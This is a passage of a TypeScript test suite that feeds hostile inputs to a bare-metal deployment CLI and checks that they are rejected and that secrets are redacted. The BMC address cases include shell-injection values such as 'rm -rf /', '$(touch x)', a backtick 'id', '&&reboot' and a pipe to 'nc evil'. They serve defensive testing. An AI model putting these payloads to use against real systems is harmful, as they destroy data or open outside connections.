    setup: unreadable,
    exit: 3,
    code: 'FileNotReadable',
    ...asUser,
  });
  out.push({
    name: 'an unreadable document file (EACCES, plan)',
    klass: 'io',
    argv: ['plan', ...SITE],
    setup: unreadable,
    exit: 3,
    code: 'FileNotReadable',
    ...asUser,
  });
  out.push({
    name: 'an unreadable folder (EACCES)',
    klass: 'io',
    argv: ['render', ...SITE],
    setup: async (dir) => chmod(join(dir, 'site/lab/software'), 0o000),
    exit: 3,
    code: 'FileNotReadable',
    ...asUser,
  });
  return out;
}

function nameCases(): HostileCase[] {
  const out: HostileCase[] = [];
  const release = (r: string) => replace('global/software/app.yaml', 'release: app', `release: ${JSON.stringify(r)}`);
  const namespace = (n: string) =>
    replace('global/software/app.yaml', 'namespace: apps', `namespace: ${JSON.stringify(n)}`);
  for (const r of [
    'Front_End!',
    'x'.repeat(70),
    '_leading',
    'trailing-',
    'has space',
    'UPPER',
    'dots..double',
    'ünïcode',
    'a;b',
  ]) {
    out.push({
      name: `release '${r.length > 20 ? `${r.slice(0, 8)}…` : r}'`,
      klass: 'names',
      argv: ['plan', ...SITE],
      edit: release(r),
      exit: 3,
      code: 'InvalidReleaseName',
      at: APP,
    });
  }
  out.push({
    name: 'release_prefix makes the release too long',
    klass: 'names',
    argv: ['plan', ...SITE],
    edit: both(release('a'.repeat(49))),
    exit: 3,
    code: 'InvalidReleaseName',
    at: APP,
  });
  for (const n of ['Edge-Frontend', 'n'.repeat(64), 'a.b', 'under_score', '-x', '']) {
    out.push({
      name: `namespace '${n.length > 20 ? `${n.slice(0, 8)}…` : n}'`,
      klass: 'names',
      argv: ['plan', ...SITE],
      edit: namespace(n),
      exit: 3,
      code: 'InvalidNamespace',
      at: APP,
    });
  }
  out.push(
    ...asValidate(out, [
      "release 'Front_End!'",
      "release 'xxxxxxxx…'",
      'release_prefix makes the release too long',
      "namespace 'Edge-Frontend'",
      "namespace ''",
    ]),
  );
  out.push({
    name: 'bad release name: apply touches nothing',
    klass: 'names',
    argv: ['apply', ...SITE, '--ironic-url', CLOSED_IRONIC],
    edit: release('Front_End!'),
    exit: 3,
    code: 'InvalidReleaseName',
    at: APP,
  });
  out.push({
    name: 'bad namespace: diff touches nothing',
    klass: 'names',
    argv: ['diff', ...SITE, '--ironic-url', CLOSED_IRONIC],
    edit: namespace('Edge-Frontend'),
    exit: 3,
    code: 'InvalidNamespace',
    at: APP,
  });
  return out;
}

function bmcCases(): HostileCase[] {
  const out: HostileCase[] = [];
  const address = (a: string) =>
    replace(HOSTS, 'address: redfish+http://127.0.0.1:9/redfish/v1/Systems/1', `address: ${JSON.stringify(a)}`);
  const bad = [
    'redfish://host;rm -rf /',
    'ipmi://10.0.0.1$(touch x)',
    'ipmi://10.0.0.1`id`',
    'redfish://host/redfish/v1\nSystems/1',
    'redfish://host\t/x',
    'redfish://bmc-admin:pw@10.10.0.12/redfish/v1/Systems/1',
    'redfish://user@10.0.0.1/x',
    'redfish://host|nc evil 1',
    'redfish://host&&reboot',
    'redfish://host /x',
    'ipmi://host>out.log',
    'redfish:///redfish/v1',
    'ipmi://host:99999',
    'ipmi://host:abc',
    'redfish://host/x?a=1',
    'redfish://host/x#frag',
    "ipmi://host'quoted'",
    'redfish://h\u0000ost/x',
  ];
  for (const a of bad) {
    out.push({
      name: `BMC address ${JSON.stringify(a)}`,
      klass: 'bmc',
      argv: ['plan', ...SITE],
      edit: address(a),
      exit: 3,
      code: a.startsWith('redfish:///') ? 'SchemaValidationError' : 'InvalidBmcAddress',
      at: HOSTS,
    });
  }
  out.push(
    ...asValidate(out, [
      'BMC address "redfish://host;rm -rf /"',
      'BMC address "ipmi://10.0.0.1$(touch x)"',
      'BMC address "redfish://bmc-admin:pw@10.10.0.12/redfish/v1/Systems/1"',
      'BMC address "redfish://host/redfish/v1\\nSystems/1"',
    ]),
  );
  out.push({
    name: 'BMC address with shell syntax: apply touches nothing',
    klass: 'bmc',
    argv: ['apply', ...SITE, '--ironic-url', CLOSED_IRONIC],
    edit: address('redfish://host;rm -rf /'),
    exit: 3,
    code: 'InvalidBmcAddress',
    at: HOSTS,
  });
  out.push({
    name: 'BMC address with credentials: diff touches nothing',
    klass: 'bmc',
    argv: ['diff', ...SITE, '--ironic-url', CLOSED_IRONIC],
    edit: address('redfish://u:p@host/x'),
    exit: 3,
    code: 'InvalidBmcAddress',
    at: HOSTS,
  });
  const second = `---\nschema: slipway/BaremetalHost/v1\nmetadata:\n  schema: metadata/Document/v1\n  name: node01-again\n  storagePolicy: cleartext\n  layeringDefinition: {abstract: false, layer: site}\ndata:\n  node: node01\n  bmc:\n    address: fake://node01\n    credentialsSecretRef: {name: bmc}\n  bootMACAddress: "52:54:00:12:34:57"\n`;
  out.push({
    name: 'two BaremetalHosts for one node',
    klass: 'bmc',
    argv: ['plan', ...SITE],
    edit: (f) => void (f[HOSTS] += second),
    exit: 3,
    code: 'DuplicateBaremetalHost',
    at: HOSTS,
  });
  out.push({
    name: 'two BaremetalHosts for one node (apply)',
    klass: 'bmc',
    argv: ['apply', ...SITE, '--ironic-url', CLOSED_IRONIC],
    edit: (f) => void (f[HOSTS] += second),
    exit: 3,
    code: 'DuplicateBaremetalHost',
    at: HOSTS,
  });
  out.push({
    name: 'a host for a node that does not exist',
    klass: 'bmc',
    argv: ['plan', ...SITE],
    edit: replace(HOSTS, 'node: node01', 'node: node99'),
    exit: 3,
    code: 'NodeNotFound',
    at: HOSTS,
  });
  out.push(...asValidate(out, ['two BaremetalHosts for one node', 'a host for a node that does not exist']));
  return out;
}

function secretCases(): HostileCase[] {
  const out: HostileCase[] = [];
  // The base site, every output of every command: no secret may show.
  const runs: [string[], 0 | 1 | 2 | 3, string?][] = [
    [['render', ...SITE], 0],
    [['render', ...SITE, '-o', 'json'], 0],
    [['validate', ...SITE], 0],
    [['lint', '.'], 0],
    [['plan', ...SITE], 0],
    [['plan', ...SITE, '-o', 'json'], 0],
    [['plan', ...SITE, '--graph', 'mermaid'], 0],
    [['plan', ...SITE, '--graph', 'dot'], 0],
    [['site', 'diff', 'lab', 'lab', '--repo', '.'], 0],
    [['diff', ...SITE, '--ironic-url', CLOSED_IRONIC], 1, 'ObserveFailed'],
    [['apply', ...SITE, '--ironic-url', CLOSED_IRONIC], 1, 'ObserveFailed'],
    [['apply', ...SITE, '--ironic-url', CLOSED_IRONIC, '-o', 'json'], 1, 'ObserveFailed'],
    [['apply', ...SITE, '--ironic-url', CLOSED_IRONIC, '--dry-run'], 1, 'ObserveFailed'],
  ];
  for (const [argv, exit, code] of runs)
    out.push({
      name: `secrets: ${argv.filter((a) => a !== '.' && a !== 'lab' && a !== CLOSED_IRONIC && a !== '--site' && a !== '--repo').join(' ')}`,
      klass: 'secrets',
      argv,
      exit,
      ...(code ? { code } : {}),
    });
  const inAddress = replace(
    HOSTS,
    '      dest: {path: .bmc.credentials.password}',
    '      dest: {path: .bmc.credentials.password}\n    - src: {schema: deckhand/Passphrase/v1, name: bmc-password, path: .}\n      dest: {path: .bmc.address, pattern: PASSWORD}',
  );
  const addr = replace(
    HOSTS,
    'address: redfish+http://127.0.0.1:9/redfish/v1/Systems/1',
    'address: redfish://bmc-admin:PASSWORD@10.10.0.12/redfish/v1/Systems/1',
  );
  for (const argv of [
    ['plan', ...SITE, '-o', 'json'],
    ['plan', ...SITE],
    ['apply', ...SITE, '--ironic-url', CLOSED_IRONIC],
  ]) {
    out.push({
      name: `secrets: a passphrase substituted into a BMC address (${argv
        .slice(0, 1)
        .concat(argv.includes('json') ? ['-o json'] : [])
        .join(' ')})`,
      klass: 'secrets',
      argv,
      edit: both(addr, inAddress),
      exit: 3,
      code: 'InvalidBmcAddress',
      at: HOSTS,
    });
  }
  for (const argv of [
    ['render', ...SITE, '-o', 'json'],
    ['render', ...SITE],
  ]) {
    out.push({
      name: `secrets: a passphrase substituted into a BMC address (${argv
        .slice(0, 1)
        .concat(argv.includes('json') ? ['-o json'] : [])
        .join(' ')})`,
      klass: 'secrets',
      argv,
      edit: both(addr, inAddress),
      exit: 0,
    });
  }
  // A password inside a BMC address that is otherwise fine (the address itself is the secret path): plan shows neither.
  const userAddr = both(
    replace(
      HOSTS,
      'address: redfish+http://127.0.0.1:9/redfish/v1/Systems/1',
      'address: redfish+http://127.0.0.1:9/redfish/v1/Systems/PASSWORD',
    ),
    inAddress,
  );
  for (const argv of [
    ['plan', ...SITE, '-o', 'json'],
    ['plan', ...SITE, '--graph', 'mermaid'],
    ['diff', ...SITE, '--ironic-url', CLOSED_IRONIC],
  ]) {
    out.push({
      name: `secrets: a passphrase substituted into a BMC path (${argv.slice(3).join(' ') || argv[0]})`,
      klass: 'secrets',
      argv,
      edit: userAddr,
      exit: argv[0] === 'diff' ? 1 : 0,
      ...(argv[0] === 'diff' ? { code: 'ObserveFailed' } : {}),
    });
  }
  const intoRelease = replace(APP, 'dest: {path: .values.token}', 'dest: {path: .release}');
  const intoNamespace = replace(APP, 'dest: {path: .values.token}', 'dest: {path: .namespace}');
  // The token is a valid name: the plan goes on, printing the name redacted.
  for (const [what, edit] of [
    ['release name', intoRelease],
    ['namespace', intoNamespace],
  ] as const) {
    for (const argv of [
      ['plan', ...SITE],
      ['plan', ...SITE, '-o', 'json'],
      ['plan', ...SITE, '--graph', 'dot'],
    ]) {
      out.push({
        name: `secrets: a passphrase substituted into the ${what} (${argv.slice(3).join(' ') || 'plan'})`,
        klass: 'secrets',
        argv,
        edit,
        exit: 0,
      });
    }
  }
  // Made invalid around the token: the error names the release, with the token redacted.
  const badRelease = both(
    replace('global/software/app.yaml', 'release: app', 'release: X_TOKEN'),
    replace(APP, 'dest: {path: .values.token}', 'dest: {path: .release, pattern: TOKEN}'),
  );
  const badNamespace = both(
    replace('global/software/app.yaml', 'namespace: apps', 'namespace: Ns_TOKEN'),
    replace(APP, 'dest: {path: .values.token}', 'dest: {path: .namespace, pattern: TOKEN}'),
  );
  out.push({
    name: 'secrets: a passphrase inside an invalid release name',
    klass: 'secrets',
    argv: ['plan', ...SITE],
    edit: badRelease,
    exit: 3,
    code: 'InvalidReleaseName',
    at: APP,
  });
  out.push({
    name: 'secrets: a passphrase inside an invalid namespace',
    klass: 'secrets',
    argv: ['plan', ...SITE, '-o', 'json'],
    edit: badNamespace,
    exit: 3,
    code: 'InvalidNamespace',
    at: APP,
  });
  out.push({
    name: 'secrets: a passphrase inside an invalid release name (apply)',
    klass: 'secrets',
    argv: ['apply', ...SITE, '--ironic-url', CLOSED_IRONIC],
    edit: badRelease,
    exit: 3,
    code: 'InvalidReleaseName',
    at: APP,
  });
  // The base site's site-credentials (cleartext) inherits all its data from default-credentials (encrypted).
  out.push({
    name: 'secrets: a cleartext document inheriting an encrypted parent (render -o json)',
    klass: 'secrets',
    argv: ['render', '.', '--site', 'lab', '-o', 'json'],
    exit: 0,
  });
  out.push({
    name: 'secrets: a secret in a schema error message',
    klass: 'secrets',
    argv: ['validate', ...SITE],
    edit: replace(HOSTS, '      dest: {path: .bmc.credentials.password}', '      dest: {path: .bootMACAddress}'),
    exit: 3,
    code: 'SchemaValidationError',
    at: HOSTS,
  });
  return out;
}

function usageCases(): HostileCase[] {
  const out: HostileCase[] = [];
  const usage: string[][] = [
    ['render', ...SITE, '-o', 'xml'],
    ['plan', ...SITE, '-o', 'xml'],
    ['plan', ...SITE, '--graph', 'dot', '-o', 'xml'],
    ['plan', ...SITE, '--graph', 'png'],
    ['apply', ...SITE, '-o', 'xml', '--ironic-url', CLOSED_IRONIC],
    ['apply', ...SITE, '--ironic-url', 'not a url'],
    ['diff', ...SITE, '--ironic-url', 'not a url'],
    ['apply', ...SITE, '--ironic-url', 'ftp://127.0.0.1/'],
    ['render', ...SITE, '--no-such-flag'],
    ['validate', ...SITE, '--no-such-flag'],
    ['lint', '.', '--bogus'],
    ['render'],
    ['plan'],
    ['no-such-command'],
    ['site', 'frobnicate'],
    ['fleet', 'frobnicate'],
    ['site', 'new', 'Bad_Name', '--from', 'lab', '--repo', '.'],
  ];
  for (const argv of usage)
    out.push({
      name: `usage: ${argv.filter((a) => a !== '.' && a !== '--site' && a !== 'lab').join(' ')}`,
      klass: 'usage',
      argv,
      exit: 3,
      code: 'usage',
    });
  out.push({
    name: 'usage: IRONIC_URL is not a URL',
    klass: 'usage',
    argv: ['apply', ...SITE],
    env: { IRONIC_URL: 'not a url' },
    exit: 3,
    code: 'usage',
  });
  for (const cmd of ['render', 'validate', 'lint', 'plan', 'diff', 'apply', 'controller', 'site', 'fleet']) {
    out.push({ name: `help: ${cmd} --help`, klass: 'help', argv: [cmd, '--help'], exit: 0 });
  }
  out.push({ name: 'help: site new --help', klass: 'help', argv: ['site', 'new', '--help'], exit: 0 });
  out.push({ name: 'help: --help', klass: 'help', argv: ['--help'], exit: 0 });
  return out;
}

function driverCases(): HostileCase[] {
  return [
    {
      name: 'driver: diff with Ironic down',
      klass: 'drivers',
      argv: ['diff', ...SITE, '--ironic-url', CLOSED_IRONIC],
      exit: 1,
      code: 'ObserveFailed',
    },
    {
      name: 'driver: apply with Ironic down',
      klass: 'drivers',
      argv: ['apply', ...SITE, '--ironic-url', CLOSED_IRONIC],
      exit: 1,
      code: 'ObserveFailed',
    },
    {
      name: 'driver: apply --prune with Ironic down',
      klass: 'drivers',
      argv: ['apply', ...SITE, '--ironic-url', CLOSED_IRONIC, '--prune'],
      exit: 1,
      code: 'ObserveFailed',
    },
    {
      name: 'driver: apply with no Ironic endpoint',
      klass: 'drivers',
      argv: ['apply', ...SITE],
      exit: 1,
      code: 'ObserveFailed',
    },
  ];
}

export function hostileCases(): HostileCase[] {
  return [
    ...yamlCases(),
    ...limitCases(),
    ...envelopeCases(),
    ...layeringCases(),
    ...substitutionCases(),
    ...schemaCases(),
    ...containmentCases(),
    ...ioCases(),
    ...nameCases(),
    ...bmcCases(),
    ...secretCases(),
    ...usageCases(),
    ...driverCases(),
  ];
}
